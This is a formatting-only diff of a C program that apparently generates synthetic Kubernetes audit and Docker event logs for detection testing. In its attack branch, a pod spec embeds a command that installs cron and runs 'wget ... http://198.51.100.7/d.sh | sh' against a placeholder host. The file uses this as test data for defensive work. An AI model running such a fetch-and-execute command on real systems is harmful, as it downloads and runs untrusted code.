@@ -22,20 +22,26 @@ static uint32_t rnd(uint32_t n) {
 
 #define PICK(arr) (arr)[rnd(sizeof(arr) / sizeof((arr)[0]))]
 
-static const char *namespaces[] = {"default", "payments", "web", "monitoring", "kube-system",
-                                   "ingress-nginx", "batch", "data"};
+static const char *namespaces[] = {"default",     "payments",      "web",   "monitoring",
+                                   "kube-system", "ingress-nginx", "batch", "data"};
 static const char *users[] = {"system:serviceaccount:kube-system:replicaset-controller",
                               "system:serviceaccount:kube-system:deployment-controller",
-                              "system:kube-scheduler", "system:node:ip-10-0-1-17",
-                              "system:kube-controller-manager", "alice@example.com",
-                              "ci-deployer", "system:serviceaccount:argocd:argocd-server"};
-static const char *images[] = {"registry.k8s.io/pause:3.9", "nginx:1.25.3",
-                               "gcr.io/google-containers/busybox:1.27", "redis:7.2",
+                              "system:kube-scheduler",
+                              "system:node:ip-10-0-1-17",
+                              "system:kube-controller-manager",
+                              "alice@example.com",
+                              "ci-deployer",
+                              "system:serviceaccount:argocd:argocd-server"};
+static const char *images[] = {"registry.k8s.io/pause:3.9",
+                               "nginx:1.25.3",
+                               "gcr.io/google-containers/busybox:1.27",
+                               "redis:7.2",
                                "quay.io/prometheus/node-exporter:v1.7.0",
                                "registry.example.com/payments/api:2.14.1",
-                               "postgres:16.1", "docker.io/library/alpine:3.19"};
-static const char *resources[] = {"pods", "leases", "endpoints", "configmaps", "events",
-                                  "nodes", "services", "replicasets"};
+                               "postgres:16.1",
+                               "docker.io/library/alpine:3.19"};
+static const char *resources[] = {"pods",   "leases", "endpoints", "configmaps",
+                                  "events", "nodes",  "services",  "replicasets"};
 static const char *readonly_verbs[] = {"get", "list", "watch", "update", "patch"};
 
 static void timestamp(char *buf, size_t n, uint64_t i) {
@@ -45,8 +51,8 @@ static void timestamp(char *buf, size_t n, uint64_t i) {
 }
 
 static void uid(char *buf, size_t n) {
-    snprintf(buf, n, "%08x-%04x-4%03x-8%03x-%08x%04x", rnd(0xFFFFFFFFu), rnd(0x10000),
-             rnd(0x1000), rnd(0x1000), rnd(0xFFFFFFFFu), rnd(0x10000));
+    snprintf(buf, n, "%08x-%04x-4%03x-8%03x-%08x%04x", rnd(0xFFFFFFFFu), rnd(0x10000), rnd(0x1000),
+             rnd(0x1000), rnd(0xFFFFFFFFu), rnd(0x10000));
 }
 
 static void audit_head(uint64_t i, const char *verb, const char *user, const char *ns,
@@ -118,8 +124,9 @@ static void k8s_event(uint64_t i, int attack) {
         printf(",\"requestObject\":{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":"
                "{\"name\":\"%s\"},\"spec\":",
                name);
-        pod_spec("ubuntu", 0, NULL, "apt-get update && apt-get install -y wget cron; "
-                                    "service cron start; wget -q -O - http://198.51.100.7/d.sh | sh");
+        pod_spec("ubuntu", 0, NULL,
+                 "apt-get update && apt-get install -y wget cron; "
+                 "service cron start; wget -q -O - http://198.51.100.7/d.sh | sh");
         printf("}}\n");
     } else { /* pod pinned to a node in kube-system */
         audit_head(i, "create", "ci-deployer", "kube-system", "pods", NULL, name, 201);
@@ -133,9 +140,9 @@ static void k8s_event(uint64_t i, int attack) {
 static void docker_event(uint64_t i) {
     static const char *actions[] = {"create", "start", "die", "destroy", "pull"};
     char id[80];
-    snprintf(id, sizeof id, "%08x%08x%08x%08x%08x%08x%08x%08x", rnd(0xFFFFFFFFu),
+    snprintf(id, sizeof id, "%08x%08x%08x%08x%08x%08x%08x%08x", rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu),
              rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu),
-             rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu));
+             rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu));
     unsigned long long t = 1764000000ull + i / 20;
     printf("{\"status\":\"%s\",\"id\":\"%s\",\"from\":\"%s\",\"Type\":\"container\","
            "\"Action\":\"%s\",\"Actor\":{\"ID\":\"%s\",\"Attributes\":{\"image\":\"%s\","
